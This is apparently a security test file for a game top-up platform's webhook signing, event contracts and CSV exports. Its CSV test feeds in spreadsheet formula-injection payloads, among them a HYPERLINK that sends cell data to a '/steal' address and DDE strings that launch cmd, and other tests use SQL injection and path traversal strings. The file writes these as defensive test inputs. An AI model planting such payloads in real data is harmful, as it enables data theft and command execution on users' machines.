/**
 * OWASP API10:2023 Unsafe Consumption of APIs. What the platform takes from
 * others is checked before it is believed: the payment provider's webhook
 * (HMAC over the raw bytes, a timestamp within 300 s, an exact body: status
 * "success" or "failed", a UUID), the events other services publish (a
 * contract violation is dead-lettered, never applied), and data that ends in
 * a spreadsheet (cells that would run as formulas are neutralised in the CSV
 * exports).
 */
import { createHmac, randomBytes, randomUUID } from 'node:crypto'
import t from 'tap'
import type { Channel, GetMessage } from 'amqplib'
import { makeEvent, PaymentStatusChanged, OrderCreated } from '@topup/contracts'
import { sampleOrderCreated } from '@topup/contracts/testing'
import { serviceQueueNames } from '@topup/messaging'
import { signPayload } from '../../services/payments/dist/src/signature.js'
import type { HttpResult } from '../system/harness.js'
import { nowSeconds, parseCsv, startPlatform, type Player } from './helpers.js'

const FORMULA_START = /^[=+\-@\t\r]/

t.test('API10 unsafe consumption of APIs', async (t) => {
  const platform = await startPlatform(t)
  const payments = platform.payments[0]
  const ordersDb = platform.orders[0]?.db
  if (payments === undefined || ordersDb === undefined || platform.analytics === null) throw new Error('every service runs')
  const analytics = platform.analytics
  const player = await platform.player('pay')

  async function pendingOrder (who: Player = player): Promise<{ order_id: string, transaction_id: string }> {
    const res = await platform.topup(who.access)
    if (res.status !== 201) throw new Error(`topup: ${res.status} ${res.text}`)
    await platform.waitFor(async () => await payments?.db.selectFrom('transactions').select('status').where('transaction_id', '=', res.body.transaction_id).executeTakeFirst(), { what: 'the transaction at payments' })
    return res.body
  }
  const statusOf = async (transactionId: string): Promise<{ payment: string, order: string }> => ({
    payment: (await payments.db.selectFrom('transactions').select('status').where('transaction_id', '=', transactionId).executeTakeFirstOrThrow()).status,
    order: (await ordersDb.selectFrom('orders').select('status').where('transaction_id', '=', transactionId).executeTakeFirstOrThrow()).status
  })
  const webhook = async (raw: string, signature: string | undefined, baseUrl: string): Promise<HttpResult> =>
    await platform.http('POST', '/api/payment/webhook/', { baseUrl, body: raw, headers: signature === undefined ? {} : { 'x-topup-signature': signature } })
  const mac = (secret: string, payload: string): string => createHmac('sha256', secret).update(payload).digest('hex')

  for (const [via, baseUrl] of [['gateway', platform.url], ['direct', platform.direct.payments]] as const) {
    await t.test(`forged and replayed webhooks change nothing (${via})`, async (t) => {
      const order = await pendingOrder()
      const secret = platform.webhookSecret
      const success = JSON.stringify({ transaction_id: order.transaction_id, status: 'success' })
      const failed = JSON.stringify({ transaction_id: order.transaction_id, status: 'failed' })
      const now = nowSeconds()
      const callsBefore = (await payments.db.selectFrom('webhook_calls').select('id').execute()).length
      const forgeries: Record<string, [string, string | undefined]> = {
        'no signature': [success, undefined],
        'an empty signature': [success, ''],
        'the wrong secret': [success, signPayload(`not-${secret}`, success, now)],
        'a signature of another body': [success, signPayload(secret, failed, now)],
        // Why a margin past the 300 s tolerance: \`now\` was read before the
        // earlier calls were sent, and a loaded CI machine can spend seconds on
        // them; "301 s ahead" would have drifted inside the window by the time
        // it arrived (it did, once). The exact boundary is tested with a fixed
        // clock in services/payments/test/signature.test.ts.
        'stale (t 330 s ago)': [success, signPayload(secret, success, now - 330)],
        'from the future (t in 330 s)': [success, signPayload(secret, success, now + 330)],
        'no t': [success, `v1=${mac(secret, `${now}.${success}`)}`],
        'no v1': [success, `t=${now}`],
        'v0 instead of v1': [success, `t=${now},v0=${mac(secret, `${now}.${success}`)}`],
        'a MAC without the timestamp': [success, `t=${now},v1=${mac(secret, success)}`],
        'a MAC of the re-serialised body': [JSON.stringify({ transaction_id: order.transaction_id, status: 'success' }, null, 2), signPayload(secret, success, now)],
        'a truncated MAC': [success, signPayload(secret, success, now).slice(0, -2)],
        'a non-numeric t': [success, `t=now,v1=${mac(secret, `now.${success}`)}`],
        'a negative t': [success, `t=-${now},v1=${mac(secret, `-${now}.${success}`)}`],
        'SHA-1 instead of SHA-256': [success, `t=${now},v1=${createHmac('sha1', secret).update(`${now}.${success}`).digest('hex')}`],
        'the MAC in base64': [success, `t=${now},v1=${createHmac('sha256', secret).update(`${now}.${success}`).digest('base64')}`]
      }
      for (const [what, [raw, signature]] of Object.entries(forgeries)) {
        const res = await webhook(raw, signature, baseUrl)
        t.equal(res.status, 401, `${what} → 401`)
      }
      t.same(await statusOf(order.transaction_id), { payment: 'pending', order: 'pending' }, 'still pending everywhere')
      const audited = await payments.db.selectFrom('webhook_calls').select(['signature_valid']).orderBy('received_at', 'desc').limit(Object.keys(forgeries).length).execute()
      t.equal(audited.length, Object.keys(forgeries).length, `every forged call is in the audit trail (${callsBefore} before)`)
      t.ok(audited.every((row) => !row.signature_valid), 'each recorded as an invalid signature')

      // a captured valid call, its body changed
      const capturedSuccess = signPayload(secret, success, now)
      const capturedFailed = signPayload(secret, failed, now)
      t.equal((await webhook(failed, capturedSuccess, baseUrl)).status, 401, 'a captured success call with its status changed to failed → 401')
      const applied = await webhook(success, capturedSuccess, baseUrl)
      t.equal(applied.status, 200, 'the genuine call → 200')
      t.match(applied.body, { status: 'success', changed: true })
      await platform.waitFor(async () => (await statusOf(order.transaction_id)).order === 'success', { what: 'the order to follow the payment' })
      const replay = await webhook(success, capturedSuccess, baseUrl)
      t.equal(replay.status, 200, 'the same call replayed → 200')
      t.match(replay.body, { changed: false }, 'and changes nothing')
      const late = await webhook(failed, capturedFailed, baseUrl)
      t.equal(late.status, 409, 'a captured valid "failed" call after the success → 409')
      t.same(await statusOf(order.transaction_id), { payment: 'success', order: 'success' }, 'success everywhere, once')
    })

    await t.test(`a correctly signed webhook with a body outside the contract is refused (${via})`, async (t) => {
      const order = await pendingOrder()
      const id = order.transaction_id
      const bodies: Record<string, unknown> = {
        'status in an array': { transaction_id: id, status: ['success'] },
        'status upper case': { transaction_id: id, status: 'SUCCESS' },
        'status with a space': { transaction_id: id, status: 'success ' },
        'status paid': { transaction_id: id, status: 'paid' },
        'status refunded': { transaction_id: id, status: 'refunded' },
        'status true': { transaction_id: id, status: true },
        'status null': { transaction_id: id, status: null },
        'status an operator': { transaction_id: id, status: { $eq: 'success' } },
        'status a number': { transaction_id: id, status: 1 },
        'transaction id "1"': { transaction_id: '1', status: 'success' },
        'transaction id SQL': { transaction_id: "' OR '1'='1", status: 'success' },
        'transaction id traversal': { transaction_id: '../../transactions', status: 'success' },
        'transaction id urn:uuid:': { transaction_id: `urn:uuid:${id}`, status: 'success' },
        'transaction id in braces': { transaction_id: `{${id}}`, status: 'success' },
        'transaction id without dashes': { transaction_id: id.replaceAll('-', ''), status: 'success' },
        'transaction id with a suffix': { transaction_id: `${id}x`, status: 'success' },
        'transaction id in an array': { transaction_id: [id], status: 'success' },
        'transaction id a number': { transaction_id: 123, status: 'success' },
        'an extra amount': { transaction_id: id, status: 'success', amount: '0.01' },
        'an extra order id': { transaction_id: id, status: 'success', order_id: randomUUID() },
        'no status': { transaction_id: id },
        'no transaction id': { status: 'success' }
      }
      for (const [what, body] of Object.entries(bodies)) {
        const raw = JSON.stringify(body)
        const res = await webhook(raw, signPayload(platform.webhookSecret, raw, nowSeconds()), baseUrl)
        t.equal(res.status, 400, `${what} (signed) → 400`)
      }
      const malformed = '{"transaction_id":'
      t.equal((await webhook(malformed, signPayload(platform.webhookSecret, malformed, nowSeconds()), baseUrl)).status, 400, 'signed malformed JSON → 400')
      t.same(await statusOf(id), { payment: 'pending', order: 'pending' }, 'still pending')
      const control = await platform.pay(id, 'failed', { baseUrl })
      t.equal(control.status, 200, 'control: the exact body → 200')
    })
  }

  await t.test('CSV exports neutralise cells that a spreadsheet would run as formulas', async (t) => {
    const formulas = {
      game: '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click for a bonus")',
      products: ['@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-1+1', '=cmd|\' /C notepad\'!A1', 'a","=1+1', '\t=1+1 tab']
    }
    const gameCode = `formula${randomBytes(3).toString('hex')}`
    const game = await platform.http<{ id: number, name: string }>('POST', '/api/games/', { token: platform.staffToken, body: { name: formulas.game, game_id: gameCode } })
    t.equal(game.status, 201, 'staff (or a compromised staff account) names a game like a formula')
    const products: Array<{ id: number, name: string }> = []
    for (const name of formulas.products) {
      const res = await platform.http<{ id: number, name: string }>('POST', '/api/products/', { token: platform.staffToken, body: { game: game.body.id, name, price: '10.00', in_game_currency: 10 } })
      t.equal(res.status, 201, `product ${JSON.stringify(name)}`)
      products.push(res.body)
    }
    // players choose their e-mail: those the registration accepts are exported too
    const emails = ['=2+5@players.test', '+2+5@players.test', '-2+5@players.test']
    const buyers: Array<{ access: string, email: string }> = [{ access: player.access, email: player.email }]
    for (const email of emails) {
      const username = `csv_${randomBytes(4).toString('hex')}`
      const password = `Sturdy-${randomBytes(5).toString('hex')}-9A`
      const registered = await platform.http('POST', '/api/register/', { body: { username, email, password } })
      if (registered.status !== 201) { t.equal(registered.status, 400, `the e-mail ${email} is refused at registration`); continue }
      const login = await platform.http<{ access: string }>('POST', '/api/token/', { body: { username, password } })
      buyers.push({ access: login.body.access, email })
    }
    const placed: string[] = []
    for (const [i, product] of products.entries()) {
      const buyer = buyers[i % buyers.length] ?? buyers[0]
      if (buyer === undefined) throw new Error('a buyer')
      const res = await platform.topup(buyer.access, { gamename: game.body.name, game_id: gameCode, product_name: product.name, product_id: product.id, product_price: '10.00' })
      t.equal(res.status, 201, `an order of ${JSON.stringify(product.name)}`)
      placed.push(res.body.order_id)
      await platform.waitFor(async () => await payments.db.selectFrom('transactions').select('status').where('transaction_id', '=', res.body.transaction_id).executeTakeFirst(), { what: 'the transaction' })
      t.equal((await platform.pay(res.body.transaction_id, i % 2 === 0 ? 'failed' : 'success')).status, 200)
    }
    await platform.waitFor(async () => {
      const rows = await analytics.db.selectFrom('order_facts').select(['order_id', 'status', 'game_name']).where('order_id', 'in', placed).execute()
      return rows.length === placed.length && rows.every((r) => r.status !== 'pending' && r.game_name !== null) ? rows : undefined
    }, { what: 'analytics to have every formula order, settled' })

    for (const path of ['/api/export/orders/', '/api/export/failures/']) {
      for (const [via, baseUrl] of [['gateway', platform.url], ['direct', analytics.url]] as const) {
        const res = await platform.http('GET', path, { token: platform.staffToken, baseUrl })
        t.equal(res.status, 200, `${path} (${via}) → 200`)
        const rows = parseCsv(res.text)
        const header = rows[0] ?? []
        t.ok(rows.every((r) => r.length === header.length), `every row has the ${header.length} columns (quotes and commas in names do not break rows)`)
        const dangerous = rows.flat().filter((cell) => FORMULA_START.test(cell))
        t.same(dangerous, [], `${path} (${via}): no cell starts with = + - @ tab or CR`)
        const cells = new Set(rows.flat())
        t.ok(cells.has(`'${formulas.game}`), `the game name is exported as text: '${formulas.game.slice(0, 20)}…`)
        for (const product of products) {
          const exported = rows.some((r) => r.includes(FORMULA_START.test(product.name) ? `'${product.name}` : product.name))
          if (path === '/api/export/orders/') t.ok(exported, `product ${JSON.stringify(product.name)} exported as text`)
        }
        for (const buyer of buyers.slice(1)) {
          if (path === '/api/export/orders/') t.ok(cells.has(`'${buyer.email}`), `e-mail ${buyer.email} exported as text`)
        }
      }
    }
  })

  await t.test('events that break their contract are dead-lettered by every consumer, never applied', async (t) => {
    const channel: Channel = await platform.broker.createChannel()
    channel.on('error', () => {})
    t.teardown(async () => { await channel.close().catch(() => {}) })
    const real = await pendingOrder()
    const publish = async (routingKey: string, body: unknown, messageId: string, type: string): Promise<void> => {
      await platform.broker.publish(routingKey, Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)), { messageId, type })
    }
    const good = sampleOrderCreated()
    const orderPoison: Record<string, { id: string, event: unknown }> = {}
    const badOrderData: Record<string, Record<string, unknown>> = {
      'a negative amount': { amount: '-699.00' },
      'a hexadecimal amount': { amount: '0x2BB' },
      'an amount as a number': { amount: 699 },
      'a formula for an e-mail': { user_email: '=cmd' },
      'an order already successful': { status: 'success' },
      'an empty game name': { game: { id: 1, code: 'coc123', name: '' } },
      'an order id that is no UUID': { order_id: "1' OR '1'='1" }
    }
    for (const [what, data] of Object.entries(badOrderData)) {
      const id = randomUUID()
      const event = { ...good, id, data: { ...good.data, order_id: randomUUID(), transaction_id: randomUUID(), ...data } }
      orderPoison[what] = { id, event }
      await publish(OrderCreated.routingKey, event, id, 'OrderCreated')
    }
    const typeConfusionId = randomUUID()
    await publish(OrderCreated.routingKey, { ...good, id: typeConfusionId, type: 'PaymentStatusChanged' }, typeConfusionId, 'PaymentStatusChanged')
    const versionId = randomUUID()
    await publish(OrderCreated.routingKey, { ...good, id: versionId, version: 2 }, versionId, 'OrderCreated')

    const payment = makeEvent(PaymentStatusChanged, {
      transaction_id: real.transaction_id, order_id: real.order_id, status: 'success', previous_status: 'pending', amount: '699.00', currency: 'INR', provider: 'sandbox', changed_at: new Date().toISOString()
    }, { correlationId: `sec-${randomBytes(4).toString('hex')}` })
    const paymentPoison: Record<string, string> = {}
    for (const [what, data] of Object.entries({ 'status refunded': { status: 'refunded' }, 'status in an array': { status: ['success'] }, 'an amount 1e3': { amount: '1e3' }, 'an order id "1"': { order_id: '1' } })) {
      const id = randomUUID()
      paymentPoison[what] = id
      await publish(PaymentStatusChanged.routingKey, { ...payment, id, data: { ...payment.data, ...data } }, id, 'PaymentStatusChanged')
    }

    const seen = new Map<string, GetMessage>()
    async function deadLettered (service: string, ids: string[]): Promise<void> {
      const { deadLetterQueue } = serviceQueueNames(platform.prefix, service)
      await platform.waitFor(async () => {
        for (;;) {
          const message = await channel.get(deadLetterQueue, { noAck: false })
          if (message === false) break
          channel.ack(message)
          seen.set(`${service}:${String(message.properties.messageId)}`, message)
        }
        return ids.every((id) => seen.has(`${service}:${id}`))
      }, { timeoutMs: 15_000, intervalMs: 50, what: `${ids.length} poison messages in ${deadLetterQueue}` })
    }
    const orderIds = [...Object.values(orderPoison).map((p) => p.id), typeConfusionId, versionId]
    await deadLettered('payments', orderIds)
    t.pass(`payments dead-lettered the ${orderIds.length} broken OrderCreated`)
    await deadLettered('analytics', [...orderIds, ...Object.values(paymentPoison)])
    t.pass('analytics dead-lettered them and the broken PaymentStatusChanged')
    await deadLettered('orders', Object.values(paymentPoison))
    t.pass('orders dead-lettered the broken PaymentStatusChanged')

    const poisonOrders = Object.values(orderPoison).map((p) => (p.event as { data: { order_id: string } }).data.order_id).filter((id) => /^[0-9a-f-]{36}$/.test(id))
    t.same(await analytics.db.selectFrom('order_facts').select('order_id').where('order_id', 'in', poisonOrders).execute(), [], 'analytics created no row for them')
    t.same(await payments.db.selectFrom('transactions').select('order_id').where('order_id', 'in', poisonOrders).execute(), [], 'payments opened no transaction')
    t.same(await statusOf(real.transaction_id), { payment: 'pending', order: 'pending' }, 'the real order is still pending at payments and orders')
    const fact = await analytics.db.selectFrom('order_facts').select('status').where('order_id', '=', real.order_id).executeTakeFirst()
    t.equal(fact?.status ?? 'pending', 'pending', 'and at analytics')
    for (const [name, app] of [['orders', platform.orders[0]?.app], ['payments', payments.app], ['analytics', analytics.app]] as const) {
      t.equal((await platform.http('GET', '/ready', { baseUrl: name === 'orders' ? platform.direct.orders : name === 'payments' ? platform.direct.payments : analytics.url })).status, 200, `${name} is still ready`)
      t.ok((app?.messaging.consumer?.stats.deadLettered ?? 0) >= Object.keys(paymentPoison).length, `${name} counted its dead letters (${app?.messaging.consumer?.stats.deadLettered ?? 0})`)
    }
    // the queue moves on: a valid event after the poison is applied
    await publish(OrderCreated.routingKey, good, good.id, 'OrderCreated')
    await platform.waitFor(async () => await analytics.db.selectFrom('order_facts').select('order_id').where('order_id', '=', good.data.order_id).executeTakeFirst(), { what: 'the valid event at analytics' })
    t.pass('a valid OrderCreated after the poison is applied')
  })

  t.equal((await platform.http('GET', '/api/games/')).status, 200, 'still serving')
})
